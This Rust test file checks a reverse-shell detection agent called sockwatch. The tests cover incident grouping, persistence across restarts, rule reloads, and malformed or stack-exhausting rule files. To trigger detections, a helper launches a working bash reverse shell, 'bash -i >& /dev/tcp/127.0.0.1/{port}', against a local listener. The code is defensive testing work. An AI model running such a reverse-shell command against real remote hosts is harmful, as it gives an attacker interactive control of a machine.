//! Incidents over time and rule sets over reloads, with the real agent: a shell whose children
//! inherit its socket is one incident; incidents survive a restart and resolve once, with a
//! reason; a broken rule file never replaces working rules, at reload or at start.

use crate::agent::Agent;
use crate::shells::{Catcher, Group, is_incident_for};
use crate::util::{ScratchDir, prerequisites, sockwatch};
use serde_json::Value;
use std::time::{Duration, Instant};

fn incidents(agent: &Agent, port: u16) -> Vec<Value> {
    agent.events().into_iter().filter(|e| is_incident_for(e, port)).collect()
}

fn action(e: &Value) -> &str {
    e["event"]["action"].as_str().unwrap_or("")
}

/// A bash reverse shell to a new catcher, which makes it run `command` first; waits until it works.
fn reverse_shell(command: &str) -> (Catcher, Group, u16) {
    let catcher = Catcher::start_with(&["tcp-listen"], command);
    let port = catcher.port();
    let shell = Group::start(&format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"));
    assert!(catcher.wait("ready").is_some(), "the reverse shell never answered");
    (catcher, shell, port)
}

fn wait_until(what: &str, test: impl Fn() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(10);
    while !test() {
        assert!(Instant::now() < deadline, "{what}: not within 10 s");
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn one_incident_per_shell_across_children_and_restarts_resolved_once() {
    if !prerequisites(&["python3"]) {
        return;
    }
    let state = ScratchDir::new("incidents");
    let args = ["--interval", "250ms", "--no-baseline"];
    let agent = Agent::start_in(&state.path, &args);
    let (_catcher, shell, port) = reverse_shell("sleep 60 & sleep 60 & ");
    let sleeping = |e: &Value| {
        let members =
            e["sockwatch"]["incident"]["processes"].as_array().cloned().unwrap_or_default();
        members.iter().filter(|p| p["name"] == "sleep").count()
    };
    wait_until("both children joining the incident", || {
        incidents(&agent, port).last().is_some_and(|e| sleeping(e) == 2)
    });
    // The shell's forks come and go while it starts its jobs; let them settle.
    std::thread::sleep(Duration::from_millis(600));
    let first = incidents(&agent, port);
    let id = first[0]["sockwatch"]["incident"]["id"].clone();
    assert_eq!(action(&first[0]), "incident_opened");
    assert_eq!(first[0]["process"]["executable"], "/usr/bin/bash", "the shell, not a child");
    let opened = first.iter().filter(|e| action(e) == "incident_opened").count();
    let one = first.iter().all(|e| e["sockwatch"]["incident"]["id"] == id);
    assert!(opened == 1 && one, "one incident for a shell and its children: {first:#?}");
    let (status, _, _) = agent.stop();
    assert!(status.success());
    let saved = std::fs::read_to_string(state.path.join("incidents.json")).unwrap_or_default();

    let agent = Agent::start_in(&state.path, &args);
    std::thread::sleep(Duration::from_millis(1500));
    let after_restart = incidents(&agent, port);
    let story: Vec<String> = after_restart
        .iter()
        .map(|e| format!("{} {}", action(e), e["sockwatch"]["incident"]))
        .collect();
    assert!(after_restart.is_empty(), "a restart re-alerted: {story:#?}\nsaved: {saved}");
    drop(shell);
    wait_until("incident_resolved", || {
        incidents(&agent, port).iter().any(|e| action(e) == "incident_resolved")
    });
    std::thread::sleep(Duration::from_millis(600));
    let resolved = incidents(&agent, port);
    assert_eq!(resolved.len(), 1, "resolved once: {resolved:#?}");
    assert_eq!(resolved[0]["sockwatch"]["incident"]["id"], id, "the same incident");
    assert_eq!(resolved[0]["sockwatch"]["incident"]["reason"], "socket_closed");
}

const BROKEN: &str = "[[rule]]\nid = \"broken\"\nname = \"n\"\nseverity = \"low\"\nmessage = \"m\"\ncondition = \"proc.nope = 1\"\n";

#[test]
fn a_broken_rule_file_keeps_the_old_rules_detecting_and_a_good_one_applies() {
    if !prerequisites(&["python3"]) {
        return;
    }
    // A local rule directory, read after the built-in pack.
    let rules = ScratchDir::new("rules");
    let dir = rules.path.to_str().unwrap();
    let agent = Agent::start(&["--interval", "250ms", "--no-baseline", "--rules", dir]);

    std::fs::write(rules.path.join("zz-broken.toml"), BROKEN).unwrap();
    let failed = agent.wait_for("reload_failed", |e| action(e) == "reload_failed");
    let errors = failed["sockwatch"]["errors"].to_string();
    assert!(
        errors.contains("zz-broken.toml:6:14: rule `broken`: unknown field `proc.nope`"),
        "{errors}"
    );
    let (_catcher, _shell, port) = reverse_shell("");
    wait_until("an alert from the old rules", || !incidents(&agent, port).is_empty());

    // A good change applies: disable one rule by override.
    let disable = "[[rule]]\nid = \"stdio-outbound-socket\"\noverride = true\nenabled = false\n";
    std::fs::write(rules.path.join("zz-broken.toml"), disable).unwrap();
    agent.wait_for("rules_reloaded", |e| action(e) == "rules_reloaded");
    let (_catcher2, _shell2, port2) = reverse_shell("");
    wait_until("an alert from the new rules", || !incidents(&agent, port2).is_empty());
    let rule_ids = incidents(&agent, port2)[0]["rule"]["id"].to_string();
    assert!(!rule_ids.contains("stdio-outbound-socket"), "disabled rule still matched: {rule_ids}");
    assert!(rule_ids.contains("shell-holds-network-socket"), "{rule_ids}");
}

#[test]
fn a_broken_rule_set_at_start_falls_back_to_the_last_good_one_or_exits_78() {
    if !prerequisites(&["python3"]) {
        return;
    }
    let rules = ScratchDir::new("rules-start");
    std::fs::write(rules.path.join("broken.toml"), BROKEN).unwrap();
    let dir = rules.path.to_str().unwrap();

    // Nothing good to fall back on: refuse to start, as a config error.
    let empty_state = ScratchDir::new("state-empty");
    let out =
        sockwatch(&["run", "--rules", dir, "--state-dir", empty_state.path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(78));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("broken.toml:6:14: rule `broken`: unknown field `proc.nope`"),
        "{stderr}"
    );

    // A state directory that saw the built-in pack compile keeps detecting with it.
    let state = ScratchDir::new("state-good");
    let (status, _, _) = Agent::start_in(&state.path, &["--no-baseline"]).stop();
    assert!(status.success());
    let agent =
        Agent::start_in(&state.path, &["--interval", "250ms", "--no-baseline", "--rules", dir]);
    let degraded = agent.wait_for("rules_degraded", |e| action(e) == "rules_degraded");
    assert!(degraded["sockwatch"]["errors"].to_string().contains("broken.toml:6:14"));
    let (_catcher, _shell, port) = reverse_shell("");
    wait_until("an alert from the last good rules", || !incidents(&agent, port).is_empty());
}

#[test]
fn rules_check_reports_every_error_and_the_shipped_fixtures_pass() {
    let rules = ScratchDir::new("rules-check");
    let two = format!("{BROKEN}\n[[rule]]\nid = \"broken\"\n");
    std::fs::write(rules.path.join("a.toml"), two).unwrap();
    let out = sockwatch(&["rules", "check", rules.path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(78));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("a.toml:6:14: rule `broken`: unknown field `proc.nope`"), "{stderr}");
    assert!(stderr.contains("a.toml:9:6: rule `broken`: duplicate rule id"), "{stderr}");
    assert!(sockwatch(&["rules", "check"]).status.success(), "the built-in pack");
    let shipped = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    let source = shipped.to_str().unwrap();
    assert!(sockwatch(&["rules", "check", "--no-builtin", source]).status.success());
    let twice = sockwatch(&["rules", "check", source]);
    let stderr = String::from_utf8_lossy(&twice.stderr);
    assert!(stderr.contains("already defined at <embedded>/reverse_shell.toml"), "{stderr}");

    let fixtures = shipped.join("tests");
    let out = sockwatch(&[
        "rules",
        "test",
        "--no-builtin",
        "--rules",
        source,
        fixtures.to_str().unwrap(),
    ]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}");
    // Every shipped rule is shown firing by some fixture.
    let expected: String = std::fs::read_dir(&fixtures)
        .unwrap()
        .filter_map(|e| std::fs::read_to_string(e.unwrap().path()).ok())
        .collect();
    let set = sockwatch::rules::RuleSet::compile(sockwatch::rules::RuleSource::embedded()).unwrap();
    for rule in &set.rules {
        assert!(expected.contains(&format!("\"{}\"", rule.id)), "no fixture shows {}", rule.id);
    }
}

/// Rule files made to exhaust the stack: nesting ten thousand deep, a chain of ten thousand
/// macros, TOML arrays nested a hundred thousand deep.
fn hostile_rule_files() -> Vec<(&'static str, String, &'static str)> {
    let rule = |condition: &str| {
        format!(
            "[[rule]]\nid = \"deep\"\nname = \"n\"\nseverity = \"low\"\nmessage = \"m\"\ncondition = \"{condition}\"\n"
        )
    };
    let parens = format!("{}proc.pid = 1{}", "(".repeat(10_000), ")".repeat(10_000));
    let nots = format!("{}proc.pid = 1", "not ".repeat(100_000));
    let mut macros: String = (0..10_000)
        .map(|i| {
            format!("[[macro]]\nname = \"m{i}\"\ncondition = \"m{} or proc.pid = {i}\"\n", i + 1)
        })
        .collect();
    macros += "[[macro]]\nname = \"m10000\"\ncondition = \"proc.pid = 0\"\n";
    macros += &rule("m0");
    vec![
        ("parens.toml", rule(&parens), "parens.toml:6:78: rule `deep`: nested deeper than 64"),
        ("nots.toml", rule(&nots), "nots.toml:6:270: rule `deep`: nested deeper than 64"),
        (
            "macros.toml",
            macros,
            "macros.toml:2:8: macro `m0`: macros using macros more than 16 deep",
        ),
        (
            "arrays.toml",
            format!("x = {}{}\n", "[".repeat(100_000), "]".repeat(100_000)),
            "arrays.toml:1:",
        ),
    ]
}

#[test]
fn hostile_rule_files_are_located_errors_at_check_start_and_reload_never_a_crash() {
    if !prerequisites(&["python3"]) {
        return;
    }
    let dir = ScratchDir::new("rules-hostile");
    let state = ScratchDir::new("state-hostile");
    let state = state.path.to_str().unwrap();
    for (name, text, expected) in hostile_rule_files() {
        let path = dir.path.join(name);
        std::fs::write(&path, text).unwrap();
        let path = path.to_str().unwrap();
        for args in [&["rules", "check", path][..], &["run", "--rules", path, "--state-dir", state]]
        {
            let out = sockwatch(args);
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert_eq!(
                out.status.code(),
                Some(78),
                "{args:?}: {}",
                &stderr[..stderr.len().min(500)]
            );
            assert!(stderr.contains(expected), "{args:?}: {}", &stderr[..stderr.len().min(500)]);
        }
        std::fs::remove_file(path).unwrap();
    }

    // Dropped into the rule directory of a running agent: refused, and the agent detects on.
    let rules = ScratchDir::new("rules-hostile-live");
    let live = rules.path.to_str().unwrap();
    let agent = Agent::start(&["--interval", "250ms", "--no-baseline", "--rules", live]);
    let (name, text, expected) = hostile_rule_files().swap_remove(0);
    std::fs::write(rules.path.join(name), text).unwrap();
    let failed = agent.wait_for("reload_failed", |e| action(e) == "reload_failed");
    assert!(failed["sockwatch"]["errors"].to_string().contains(expected), "{failed}");
    let (_catcher, _shell, port) = reverse_shell("");
    wait_until("an alert from the rules in force", || !incidents(&agent, port).is_empty());
    let (status, _, _) = agent.stop();
    assert!(status.success());
}

#[test]
fn sighup_reloads_rules_when_the_watcher_is_off() {
    if !prerequisites(&["python3"]) {
        return;
    }
    let dir = ScratchDir::new("rules-hup");
    let rules = dir.path.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    let config = dir.path.join("sockwatch.toml");
    let body = format!("[rules]\npaths = [\"{}\"]\nwatch = false\n", rules.display());
    std::fs::write(&config, body).unwrap();
    let agent = Agent::start(&[
        "--interval",
        "250ms",
        "--no-baseline",
        "--config",
        config.to_str().unwrap(),
    ]);
    let disable =
        "[[rule]]\nid = \"shell-holds-network-socket\"\noverride = true\nenabled = false\n";
    std::fs::write(rules.join("zz-local.toml"), disable).unwrap();
    std::thread::sleep(Duration::from_millis(800));
    assert!(
        !agent.events().iter().any(|e| action(e) == "rules_reloaded"),
        "reloaded without being asked (watch = false)"
    );
    let pid = rustix::process::Pid::from_raw(agent.pid()).unwrap();
    rustix::process::kill_process(pid, rustix::process::Signal::HUP).unwrap();
    let reloaded = agent.wait_for("rules_reloaded", |e| action(e) == "rules_reloaded");
    let shipped = sockwatch::rules::RuleSet::compile(sockwatch::rules::RuleSource::embedded());
    assert_eq!(reloaded["sockwatch"]["rules_loaded"], shipped.unwrap().rules.len());
    let (_catcher, _shell, port) = reverse_shell("");
    wait_until("an alert from the reloaded rules", || !incidents(&agent, port).is_empty());
    let rule_ids = incidents(&agent, port)[0]["rule"]["id"].to_string();
    assert!(!rule_ids.contains("shell-holds-network-socket"), "{rule_ids}");
}

/// A local rule file that disables every rule of the built-in pack.
fn disable_every_shipped_rule() -> String {
    let set = sockwatch::rules::RuleSet::compile(sockwatch::rules::RuleSource::embedded()).unwrap();
    let ids = set.rules.iter().map(|r| r.id.as_str());
    ids.map(|id| format!("[[rule]]\nid = \"{id}\"\noverride = true\nenabled = false\n\n")).collect()
}

const LOCAL_RULE: &str = "[[rule]]\nid = \"local-probe\"\nname = \"n\"\nseverity = \"low\"\nmessage = \"m\"\ncondition = \"proc.pid = 1\"\n";

#[test]
fn local_rules_add_to_the_pack_and_detection_cannot_be_switched_off_by_accident() {
    if !prerequisites(&["python3"]) {
        return;
    }
    let shipped = sockwatch::rules::RuleSet::compile(sockwatch::rules::RuleSource::embedded());
    let shipped = shipped.unwrap().rules.len();
    let local = ScratchDir::new("rules-local");
    std::fs::write(local.path.join("50-probe.toml"), LOCAL_RULE).unwrap();
    let dir = local.path.to_str().unwrap();

    // Local files add to the pack; `rules list` says where each rule comes from.
    let out = sockwatch(&["rules", "list", "--rules", dir]);
    let listing = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{listing}");
    assert_eq!(listing.lines().count(), shipped + 2, "{listing}");
    assert!(
        listing.contains("stdio-outbound-socket")
            && listing.contains("<embedded>/reverse_shell.toml:")
    );
    let probe = listing.lines().find(|l| l.starts_with("local-probe")).unwrap();
    assert!(probe.contains("enabled") && probe.contains("50-probe.toml:2"), "{probe}");
    let out = sockwatch(&["rules", "list", "--no-builtin", "--rules", dir]);
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 2, "the pack replaced");

    let state = ScratchDir::new("state-local");
    let agent = Agent::start_in(&state.path, &["--no-baseline", "--rules", dir]);
    let started = agent.events().into_iter().find(|e| action(e) == "agent_started").unwrap();
    let detection = &started["sockwatch"]["detection"];
    assert_eq!(detection["rules_enabled"], shipped + 1, "{started}");
    let sources = detection["rule_sources"].to_string();
    assert!(sources.contains("<embedded>/reverse_shell.toml") && sources.contains("50-probe.toml"));

    // A change that would leave no rule enabled is refused on reload: detection goes on.
    std::fs::write(
        local.path.join("60-off.toml"),
        disable_every_shipped_rule()
            + "[[rule]]\nid = \"local-probe\"\noverride = true\nenabled = false\n",
    )
    .unwrap();
    let failed = agent.wait_for("reload_failed", |e| action(e) == "reload_failed");
    assert!(failed["sockwatch"]["errors"].to_string().contains("no enabled rule"), "{failed}");
    let (_catcher, _shell, port) = reverse_shell("");
    wait_until("an alert from the rules in force", || !incidents(&agent, port).is_empty());
    drop(agent);

    // ... and at start: 78 with the reason, unless no rules is said on purpose.
    let empty_state = ScratchDir::new("state-none");
    let empty_state = empty_state.path.to_str().unwrap();
    let out = sockwatch(&["run", "--rules", dir, "--state-dir", empty_state]);
    assert_eq!(out.status.code(), Some(78));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no enabled rule"));
    let config = local.path.join("sockwatch.conf");
    std::fs::write(&config, "[rules]\nallow_none = true\n").unwrap();
    let config = config.to_str().unwrap();
    let agent = Agent::start_in(&state.path, &["--config", config, "--rules", dir]);
    let started = agent.events().into_iter().find(|e| action(e) == "agent_started").unwrap();
    assert_eq!(started["sockwatch"]["detection"]["rules_enabled"], 0, "{started}");
}
